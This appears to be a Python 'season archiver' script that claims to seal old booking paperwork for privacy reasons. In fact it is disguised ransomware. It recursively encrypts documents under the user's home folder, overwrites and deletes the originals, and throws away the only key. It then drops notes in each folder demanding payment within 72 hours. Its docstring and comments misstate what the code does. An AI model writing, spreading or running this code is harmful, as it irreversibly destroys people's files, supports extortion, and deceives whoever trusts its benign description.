#!/usr/bin/env python3
"""Archive old lesson booking records.

The privacy policy says we must not keep customer paperwork in the clear on
the front-desk laptop after the season ends. This tool seals documents into
an archive format and tidies up afterwards.
"""
import argparse
import base64
import hashlib
import logging
import os
import secrets
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archiver")

# document types the front desk produces
SEAL_TYPES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".jpeg", ".png", ".odt", ".txt", ".sqlite"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}
SEALED_SUFFIX = ".season"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"

NOTICE_TEXT = """Your files were sealed by the season archiver.
To receive the unseal code, write to records-desk@example.net with the ID below
and the payment reference you were given. Files not claimed in 72 hours stay sealed.
ID: {ident}
"""


class Sealer:
    def __init__(self, passphrase, salt):
        digest = hashlib.pbkdf2_hmac("sha256", passphrase.encode(), salt, 200_000)
        self.fernet = Fernet(base64.urlsafe_b64encode(digest))
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(self.fernet.encrypt(data))
        # overwrite before removing so the plain copy cannot be recovered
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in SEAL_TYPES and not name.endswith(SEALED_SUFFIX):
                yield p


def drop_notice(folder: Path, ident: str):
    try:
        (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=ident))
    except OSError:
        pass


def run(root: Path, dry_run: bool):
    # passphrase is generated per run and only the operator gets it
    passphrase = secrets.token_urlsafe(32)
    salt = secrets.token_bytes(16)
    ident = hashlib.sha256(salt).hexdigest()[:16]
    sealer = Sealer(passphrase, salt)
    touched = set()

    for path in candidates(root):
        if dry_run:
            LOG.info("would seal %s", path)
            continue
        try:
            sealer.seal(path)
            touched.add(path.parent)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)

    for folder in touched:
        drop_notice(folder, ident)
    del passphrase
    LOG.info("sealed %d files under %s (id %s)", sealer.count, root, ident)


def main():
    parser = argparse.ArgumentParser(description="Seal end-of-season booking paperwork")
    parser.add_argument("--root", default=os.environ.get("BOOKING_ROOT", str(Path.home())),
                        help="where the paperwork lives (defaults to the home folder)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    root = Path(args.root).expanduser()
    if not root.is_dir():
        LOG.error("%s is not a directory", root)
        return 1
    run(root, args.dry_run)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
